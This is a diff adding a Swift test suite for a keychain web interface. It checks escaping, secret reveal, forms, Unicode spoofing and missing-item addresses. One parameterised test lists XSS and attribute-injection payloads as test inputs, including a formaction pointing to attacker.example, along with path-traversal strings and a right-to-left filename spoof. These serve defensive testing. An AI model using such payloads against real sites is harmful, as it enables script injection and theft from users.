@@ -1,0 +1,189 @@
+import AccessPages
+import Foundation
+import KeychainClient
+import KeychainModel
+import KeychainTestSupport
+import Testing
+
+/// What the pages show, and what they never do.
+struct PageTests {
+    private let site: PagesSite
+    private let cookie: String
+
+    init() throws {
+        site = try PagesSite()
+        cookie = try site.open()
+    }
+
+    private func add(_ name: String, account: String = "a", secret: String = "canary-7781", comment: String? = nil)
+        throws
+        -> PersistentReference
+    {
+        try site.connection.add(account, service: "service of \(UUID())", value: secret) { request in
+            request.attributes[.label] = .string(name)
+            if let comment { request.attributes[.comment] = .string(comment) }
+        }
+    }
+
+    /// All pages about an item.
+    private func pages(of reference: PersistentReference) throws -> [String] {
+        ["/", "/items", "/items?query=x", reference.path, "\(reference.path)/edit"].map { site.get($0, cookie).text }
+            + [try site.post("\(reference.path)/delete", cookie).text]
+    }
+
+    @Test(
+        arguments: [
+            "<img src=x onerror=alert(1)>", "\"><script>alert(1)</script>", "' onfocus='alert(1)",
+            "\"\u{301} formaction=//attacker.example x=\"", "{{formToken}}", "</title><script>", "<!--", "&lt;b&gt;",
+        ]
+    )
+    func `a hostile name is text on every page`(_ name: String) throws {
+        let reference = try add(name, account: name, comment: name)
+        let token = try site.token(cookie)
+        for page in try pages(of: reference) {
+            for marked in ["<img", "<script>", "<!--\"", " onfocus='", "\"\u{301} formaction", "><script"] {
+                #expect(!page.utf8Contains(marked), "\(marked)")
+            }
+            #expect(page.components(separatedBy: token).count <= 8)
+        }
+    }
+
+    @Test func `a character that turns text around, and one that cannot be seen, are made visible`() throws {
+        let reference = try add("invoice\u{202E}gpj.exe", account: "a\u{200B}b")
+        for page in [site.get("/items", cookie).text, site.get(reference.path, cookie).text] {
+            #expect(page.contains(#"invoice\u{202e}gpj.exe"#))
+            #expect(!page.unicodeScalars.contains("\u{202E}"))
+        }
+        #expect(site.get(reference.path, cookie).text.contains(#"a\u{200b}b"#))
+    }
+
+    @Test func `a name of a mebibyte makes no page large`() throws {
+        let long = String(repeating: "x<", count: 60_000)
+        let reference = try add(long, account: long, comment: long)
+        for page in try pages(of: reference) { #expect(page.utf8.count < 100_000) }
+    }
+
+    @Test func `no page has a secret before it is revealed`() throws {
+        let reference = try add("mail", secret: "canary-55190")
+        for page in try pages(of: reference) { #expect(!page.contains("canary-55190")) }
+        #expect(site.get("\(reference.path)/reveal", cookie).status == 404)
+        let shown = try site.post("\(reference.path)/reveal", cookie)
+        #expect(shown.text.plainText.contains("canary-55190"))
+        #expect(shown.header("Cache-Control") == "no-store")
+        for page in try pages(of: reference) { #expect(!page.contains("canary-55190")) }
+    }
+
+    @Test func `a revealed secret is in no title and no address, and its page leaves by itself`() throws {
+        let reference = try add("mail", secret: "canary-55191")
+        let page = try site.post("\(reference.path)/reveal", cookie).text
+        let title = try #require(page.firstMatch(of: #/<title>(.*)<\/title>/#)?.1)
+        #expect(title.contains("mail") && !title.contains("canary"))
+        #expect(page.contains("http-equiv=\"refresh\" content=\"30;url=\(reference.path)\""))
+        for match in page.matches(of: #/(?:href|action|value|content)="([^"]*)"/#) {
+            #expect(!match.1.contains("canary"))
+        }
+    }
+
+    @Test func `a secret that is no text is shown as digits`() throws {
+        let reference = try site.connection.add("bytes") { $0.secrets[.valueData] = SecretBytes([0, 255, 16]) }
+        #expect(try site.post("\(reference.path)/reveal", cookie).text.plainText.contains("00ff10"))
+        // A text that would look like another one is no text to read.
+        let turned = try site.connection.add("turned") {
+            $0.secrets[.valueData] = SecretBytes(Array("a\u{202E}b".utf8))
+        }
+        #expect(try site.post("\(turned.path)/reveal", cookie).text.plainText.contains("61e280ae62"))
+    }
+
+    @Test func `an item is added, changed and deleted by forms`() throws {
+        let added = try site.post(
+            "/items/new",
+            cookie,
+            [("kind", "password"), ("name", "Mail"), ("service", "imap"), ("account", "ann"), ("password", "first")]
+        )
+        #expect(added.status == 303)
+        let path = try #require(added.header("Location"))
+        #expect(site.get(path, cookie).text.contains("The item was added."))
+        #expect(!site.get(path, cookie).text.contains("The item was added."))
+        #expect(try site.connection.all() == ["ann=first"])
+
+        let changed = try site.post(
+            "\(path)/edit",
+            cookie,
+            [("name", "Post"), ("service", "imap"), ("account", "ann"), ("comment", "two\r\nlines"), ("password", "")]
+        )
+        #expect(changed.header("Location") == path)
+        #expect(site.get(path, cookie).text.contains("two\nlines"))
+        #expect(try site.connection.all() == ["ann=first"])
+        _ = try site.post("\(path)/edit", cookie, [("password", "second")])
+        #expect(try site.connection.all() == ["ann=second"])
+
+        #expect(try site.post("\(path)/delete", cookie).status == 200)
+        #expect(try site.connection.all() == ["ann=second"])
+        #expect(try site.post("\(path)/delete", cookie, [("confirmed", "yes")]).status == 303)
+        #expect(try site.connection.all() == [])
+        #expect(site.get(path, cookie).status == 404)
+        #expect(try site.post("\(path)/edit", cookie, [("name", "x")]).status == 404)
+        #expect(try site.post("\(path)/reveal", cookie).status == 404)
+    }
+
+    @Test func `a form with a mistake comes back with what was typed, and with no password`() throws {
+        let form = [
+            ("kind", "internet"), ("name", "Shop"), ("server", "shop.example"), ("port", "eighty"),
+            ("password", "canary-1"),
+        ]
+        let page = try site.post("/items/new", cookie, form)
+        #expect(page.status == 422)
+        #expect(page.text.contains("The port is a number up to 65535."))
+        #expect(page.text.contains("value=\"shop.example\""))
+        #expect(!page.text.contains("canary-1"))
+        #expect(try site.connection.all() == [])
+    }
+
+    @Test func `a second item of the same service and account is refused, and the first one stays`() throws {
+        let form = [("kind", "password"), ("name", "A"), ("service", "s"), ("account", "a"), ("password", "one")]
+        #expect(try site.post("/items/new", cookie, form).status == 303)
+        let second = try site.post("/items/new", cookie, form.dropLast() + [("password", "two")])
+        #expect(second.status == 422)
+        #expect(second.text.contains("There is an item already"))
+        #expect(try site.connection.all() == ["a=one"])
+    }
+
+    @Test func `selected items are deleted together, after a question`() throws {
+        let references = try (0..<5).map { try add("item \($0)", account: "\($0)") }
+        let selected = references.prefix(3).map { ("reference", $0.pageName) }
+        let question = try site.post("/items/delete", cookie, selected)
+        #expect(question.text.contains("Delete 3 items?"))
+        #expect(try site.connection.accounts().count == 5)
+        #expect(try site.post("/items/delete", cookie, [("confirmed", "yes")] + selected).status == 303)
+        #expect(try site.connection.accounts() == ["3", "4"])
+        #expect(site.get("/items", cookie).text.contains("3 items were deleted."))
+    }
+
+    @Test(arguments: [
+        "genp-", "genp-00", "genp-zz00000000000000000000000000000000", "xxxx-00000000000000000000000000000000", "..",
+        "%2e%2e",
+    ])
+    func `an address of no item is not there`(_ name: String) {
+        #expect(site.get("/item/\(name)", cookie).status == 404)
+    }
+
+    @Test func `what another program changes is on the next page`() throws {
+        #expect(site.get("/items", cookie).text.contains("The keychain has no items."))
+        let other = site.keychain.connection(groups: ["other.app"])
+        try other.add("new account", service: "svc")
+        #expect(site.get("/items", cookie).text.contains("new account"))
+        #expect(site.get("/items", cookie).text.contains("other.app"))
+    }
+}
+
+extension String {
+    /// Byte by byte: to Swift, a sign with an accent is another character.
+    func utf8Contains(_ part: String) -> Bool { Array(utf8).firstRange(of: Array(part.utf8)) != nil }
+
+    /// A page without its elements, as a person reads it.
+    var plainText: String {
+        replacing(#/<[^>]*>/#, with: "").replacingOccurrences(of: "&amp;", with: "&")
+            .replacingOccurrences(of: "&lt;", with: "<").replacingOccurrences(of: "&gt;", with: ">")
+            .replacingOccurrences(of: "&quot;", with: "\"").replacingOccurrences(of: "&#39;", with: "'")
+    }
+}
